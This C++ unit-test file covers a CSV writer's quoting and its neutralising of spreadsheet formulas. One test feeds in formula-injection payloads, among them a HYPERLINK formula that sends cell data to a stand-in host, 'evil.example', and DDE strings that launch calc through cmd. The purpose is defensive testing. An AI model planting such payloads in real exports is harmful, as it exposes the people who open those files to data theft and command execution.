#include "core/csv.h"

#include <gtest/gtest.h>

namespace strata::core {
namespace {

TEST(CsvWriterTest, QuotesOnlyWhatNeedsIt) {
  CsvWriter csv;
  csv.Text("plain").Text("a,b").Text("say \"hi\"").Text("two\nlines").Number(-42).EndRow();
  csv.Text("").Text("x").EndRow();
  EXPECT_EQ(csv.str(), "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",-42\r\n,x\r\n");
}

// The formula-injection forms of the OWASP CSV injection page and PayloadsAllTheThings.
TEST(CsvWriterTest, FormulaCellsAreNeutralised) {
  for (const char* payload :
       {"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
        R"(=HYPERLINK("http://evil.example?x="&A1,"Error: click"))", "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "+thespanishinquisition(cmd|'/c calc.exe'!A)"}) {
    const std::string cell = NeutraliseFormula(payload);
    EXPECT_EQ(cell, std::string("'") + payload);
    CsvWriter csv;
    csv.Text(payload).EndRow();
    const std::string& row = csv.str();
    // Whether quoted or not, the first character a spreadsheet reads is the apostrophe.
    const std::size_t first = row.front() == '"' ? 1 : 0;
    EXPECT_EQ(row[first], '\'') << row;
  }
}

TEST(CsvWriterTest, OrdinaryTextAndNumbersAreLeftAlone) {
  EXPECT_EQ(NeutraliseFormula("Acme Ltd"), "Acme Ltd");
  EXPECT_EQ(NeutraliseFormula("a=b"), "a=b");
  EXPECT_EQ(NeutraliseFormula(""), "");
  CsvWriter csv;
  csv.Number(-5).EndRow();
  EXPECT_EQ(csv.str(), "-5\r\n");
}

}  // namespace
}  // namespace strata::core
